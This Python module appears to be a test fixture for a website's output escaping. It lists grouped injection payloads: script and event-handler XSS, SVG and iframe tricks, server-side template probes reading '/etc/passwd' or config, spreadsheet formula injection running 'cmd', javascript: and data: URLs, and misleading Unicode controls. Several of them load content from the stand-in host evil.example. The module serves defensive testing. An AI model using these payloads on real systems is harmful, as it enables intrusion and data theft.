"""What somebody might write who wants our pages to do something: each hurts where one place forgets to escape.

Every payload that would make an element, an attribute or a script names it ``pwned``; what would be computed comes to ``6391``.
"""

from __future__ import annotations

COMPUTED = "6391"
"""What ``913*7`` comes to: it stands on no page, unless a payload was computed."""

SCRIPTS = (
    "<script>window.__pwned=1</script>",
    "<script src=https://evil.example/pwned.js></script>",
    '"><script>window.__pwned=2</script>',
    "'><script>window.__pwned=3</script>",
    "</script><script>window.__pwned=4</script>",
    "</title><script>window.__pwned=5</script>",
    "</textarea><script>window.__pwned=6</script>",
    "</style><script>window.__pwned=7</script>",
    "--><script>window.__pwned=8</script><!--",
    "]]><script>window.__pwned=9</script>",
    "<scr<script>ipt>window.__pwned=10</scr</script>ipt>",
    "\uff1cscript\uff1ewindow.__pwned=11\uff1c/script\uff1e",
    "&lt;script&gt;window.__pwned=12&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=13&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.__pwned=14\\u003c/script\\u003e",
    "+ADw-script+AD4-window.__pwned=15+ADw-/script+AD4-",
)
ATTRIBUTES = (
    "<img src=x onerror=window.__pwned=20>",
    '"><img src=x onerror="window.__pwned=21">',
    '" autofocus onfocus="window.__pwned=22" pwned="',
    "' autofocus onfocus='window.__pwned=23' pwned='",
    " onmouseover=window.__pwned=24 pwned=1 ",
    "` onload=window.__pwned=25 pwned=1 `",
    "<body onload=window.__pwned=26>",
    "<details open ontoggle=window.__pwned=27>",
    "<input autofocus onfocus=window.__pwned=28>",
    "<video><source onerror=window.__pwned=29></video>",
    "<b pwned=1>bold</b>",
    "<x-pwned>",
)
FOREIGN = (
    "<svg/onload=window.__pwned=30>",
    "<svg><script>window.__pwned=31</script></svg>",
    "<svg><animate onbegin=window.__pwned=32 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=33>",
    '<iframe srcdoc="<script>parent.__pwned=34</script>"></iframe>',
    "<object data=data:text/html,pwned></object>",
    "<embed src=data:text/html,pwned>",
    "<base href=https://evil.example/pwned/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/pwned">',
    "<link rel=stylesheet href=https://evil.example/pwned.css>",
    "<form action=https://evil.example/pwned><button>send</button></form>",
    "<template><x-pwned></template>",
    "<plaintext>",
    "<!--",
    "<![CDATA[<x-pwned>]]>",
    "<?php echo 'pwned' ?>",
)
STYLES = (
    "<style>body{display:none}x-pwned{}</style>",
    '" style="position:fixed;inset:0;background:url(https://evil.example/pwned)',
    "</style><style>@import url(https://evil.example/pwned.css)",
    "expression(window.__pwned=40)",
)
TEMPLATES = (
    "{{ 913*7 }}",
    "{{913*7}}",
    "${913*7}",
    "#{913*7}",
    "<%= 913*7 %>",
    "{% raw %}",
    "{% endblock %}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "{{ config }}",
    "%(pwned)s",
    "{0.__class__}",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/pwned","x")',
    "+913*7",
    "-913*7",
    "@SUM(913*7)",
    "\t=913*7",
    "\r=913*7",
    "=913*7",
)
MARKDOWN = (
    "[click](javascript:window.__pwned=50)",
    "![x](https://evil.example/pwned.png)",
    "<javascript:window.__pwned=51>",
    "[x]: javascript:window.__pwned=52",
    "`code` <img src=x onerror=window.__pwned=53>",
    "| a | b |\n|---|---|\n| <x-pwned> | c |",
    "# A heading <x-pwned>",
    "```\n<x-pwned>\n```",
    "\n\n<div pwned=1>\n\n",
)
UNSEEN = (
    "evil\u202egnp.exe",
    "\u2066hidden\u2069",
    "zero\u200bwidth\u200djoined\ufeff",
    "line\u2028separated\u2029paragraph",
    "nul\x00byte",
    "\ufeffbegins with a mark",
    "lone \ud800 surrogate",
    "\x1b[31mred\x1b]0;pwned\x07",
    "back\x08space\x7f",
    "carriage\rreturn",
    "next\x85line",
    "\U000e0041\U000e0042 tags",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dalgo",
)
ADDRESSES = (
    "javascript:window.__pwned=60",
    "JaVaScRiPt:window.__pwned=61",
    " javascript:window.__pwned=62",
    "java\tscript:window.__pwned=63",
    "\x01javascript:window.__pwned=64",
    "data:text/html,<script>window.__pwned=65</script>",
    "data:image/svg+xml,<svg onload=window.__pwned=66>",
    "vbscript:pwned",
    "//evil.example/pwned",
    "\\\\evil.example\\pwned",
    "/\\evil.example/pwned",
    "file:///etc/passwd",
    'https://evil.example/"onmouseover="window.__pwned=67',
    "https://evil.example/'><script>window.__pwned=68</script>",
    "https://user:pwned@evil.example@gazette.example/",
    "https://gazette.example/\u202emoc",
    "https://gazette.example/a b",
    "http://[::1",
    "https://gazette.example/?a=<b pwned=1>&b=%3Cb%3E",
    "blob:https://evil.example/pwned",
    "view-source:javascript:pwned",
)
WORDS = (*SCRIPTS, *ATTRIBUTES, *FOREIGN, *STYLES, *TEMPLATES, *FORMULAS, *MARKDOWN, *UNSEEN)
ALL = (*WORDS, *ADDRESSES)
